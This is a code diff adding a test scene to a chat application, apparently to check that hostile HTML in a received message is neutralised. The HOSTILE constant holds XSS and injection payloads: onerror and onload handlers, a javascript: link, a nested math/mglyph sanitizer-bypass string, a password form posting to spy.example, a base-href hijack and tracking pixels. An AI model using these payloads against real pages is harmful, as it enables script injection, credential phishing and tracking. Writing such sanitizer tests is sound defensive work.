@@ -52,6 +52,16 @@ function inFolder(name: string, problems: Readonly<Record<string, ProblemCode>>)
   };
 }
 
+/** Markup that would load, run, ask or lie over something, if any of it reached the page. */
+const HOSTILE = `<p>Bonjour</p><img src="https://spy.example/pixel.png" onerror="document.title='taken'">
+<script>document.title = 'taken'</script><style>body { display: none }</style>
+<svg onload="document.title='taken'"><use href="https://spy.example/x.svg#x"/></svg>
+<iframe src="https://spy.example/"></iframe><form action="https://spy.example/"><input name="password"><button>OK</button></form>
+<div style="position:fixed;inset:0;background:url(https://spy.example/veil.png)" class="veil" id="root">voile</div>
+<a href="javascript:document.title='taken'">piège</a> <a href="https://exemple.fr/" style="color:white">lien</a>
+<math><mtext><table><mglyph><style><img src=x onerror="document.title='taken'"></style></mglyph></table></mtext></math>
+<video src="https://spy.example/v.mp4" autoplay></video><object data="https://spy.example/o"></object><base href="https://spy.example/">`;
+
 /** What goes wrong from outside, each said in plain words. The table of all is in docs/bad-input.md. */
 export const badInputScenes: readonly Scene[] = [
   wrongChat('bad-no-server', 'unreachable'),
@@ -88,6 +98,14 @@ export const badInputScenes: readonly Scene[] = [
     name: 'bad-drop',
     before: (stage) => {
       stage.world.transfers = [{ ...budgetTransfer, step: { step: 'failed', problem: 'disk-full' } }];
+    },
+    after: openRugby,
+  },
+  {
+    name: 'bad-markup',
+    before: (stage) => {
+      const hostile = text('Bonjour', HOSTILE);
+      stage.chat.world.timelines.set(RUGBY, { ...rugby, items: [item(karim, ago(3), hostile)] });
     },
     after: openRugby,
   },
